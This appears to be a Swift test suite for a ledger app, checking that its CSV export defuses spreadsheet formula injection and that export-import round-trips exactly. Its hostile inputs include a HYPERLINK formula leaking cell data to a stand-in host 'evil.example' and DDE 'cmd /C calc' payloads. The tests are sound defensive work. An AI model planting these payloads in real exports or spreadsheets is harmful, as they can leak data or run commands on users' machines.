import Foundation
import Testing
import KeepsakeLedger
import KeepsakeStore
import KeepsakeTestSupport
import KeepsakeSupport

/// CSV formula injection: the ledger export never hands a spreadsheet a cell it would run as a
/// formula, and importing the export gives back exactly what was exported.
@Suite struct LedgerCSVFormulaTests {
    /// Texts a spreadsheet would run, and texts near them.
    static let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "'=already marked",
        "''@twice",
        "'plain apostrophe",
        "-12.30",
        "+5",
        "plain = not a formula",
        "김밥 =",
    ]

    @Test func formulaCellsGetAnApostropheAndNumbersStayNumbers() {
        #expect(CSV.neutralizingFormula("=1+1") == "'=1+1")
        #expect(CSV.neutralizingFormula("+1+1") == "'+1+1")
        #expect(CSV.neutralizingFormula("-1+1") == "'-1+1")
        #expect(CSV.neutralizingFormula("@A1") == "'@A1")
        #expect(CSV.neutralizingFormula("\t=A1") == "'\t=A1")
        #expect(CSV.neutralizingFormula("\r=A1") == "'\r=A1")
        #expect(CSV.neutralizingFormula("'=A1") == "''=A1")
        #expect(CSV.neutralizingFormula("-12.30") == "-12.30")
        #expect(CSV.neutralizingFormula("+5") == "+5")
        #expect(CSV.neutralizingFormula("-1,5") == "-1,5")
        #expect(CSV.neutralizingFormula("-1.") == "'-1.")
        #expect(CSV.neutralizingFormula("'text") == "'text")
        #expect(CSV.neutralizingFormula("a=1") == "a=1")
        #expect(CSV.neutralizingFormula("") == "")
        for text in Self.hostile + ["", "'", "''", "'-", "x"] {
            #expect(CSV.restoringFormula(CSV.neutralizingFormula(text)) == text, "\(text.debugDescription)")
        }
    }

    @Test func theExportNeverStartsACellWithAFormulaAndImportsBackExactly() throws {
        let source = try LedgerFixture()
        let ledger = source.ledger
        var created: [LedgerTransaction] = []
        for (index, text) in Self.hostile.enumerated() {
            created.append(try source.add("2026-03-\(String(format: "%02d", 1 + index))", index % 2 == 0 ? .expense : .income,
                                          "12.30", .eur, "cat \(index)", memo: text))
        }
        created.append(try source.add("2026-03-20", .expense, "1", .eur, "=1+cmd|' /C calc'!A0", memo: "category attack"))

        let csv = try ledger.exportCSV()
        let rows = CSV.parse(csv).dropFirst()
        #expect(rows.count == created.count)
        let amountColumn = Ledger.csvHeader.firstIndex(of: "amount")!
        for row in rows {
            for (column, cell) in row.fields.enumerated() {
                let first = cell.utf8.first
                let looksLikeFormula = first.map { [UInt8(ascii: "="), UInt8(ascii: "+"), UInt8(ascii: "-"), UInt8(ascii: "@"),
                                                    UInt8(ascii: "\t"), UInt8(ascii: "\r")].contains($0) } ?? false
                let isNumber = Double(cell) != nil
                #expect(!looksLikeFormula || isNumber, "line \(row.line), column \(column): \(cell.debugDescription)")
            }
            #expect(Double(row.fields[amountColumn]) != nil, "the amount is a number cell")
        }
        #expect(csv.contains(",'=1+cmd|' /C calc'!A0,"))
        #expect(csv.contains(",-12.30,\r\n"), "a memo that is a number is written as a number (the splits cell after it is empty)")

        let target = try LedgerFixture()
        let copy = target.ledger
        let report = try copy.importCSV(csv)
        #expect(report.imported.count == created.count)
        for original in created {
            let imported = try copy.read(original.id)
            #expect(imported.memo == original.memo, "\(original.memo.debugDescription)")
            #expect(imported.category == original.category)
            #expect(imported.amount == original.amount)
        }
        #expect(try copy.exportCSV() == csv, "export → import → export is the same file")
    }
}
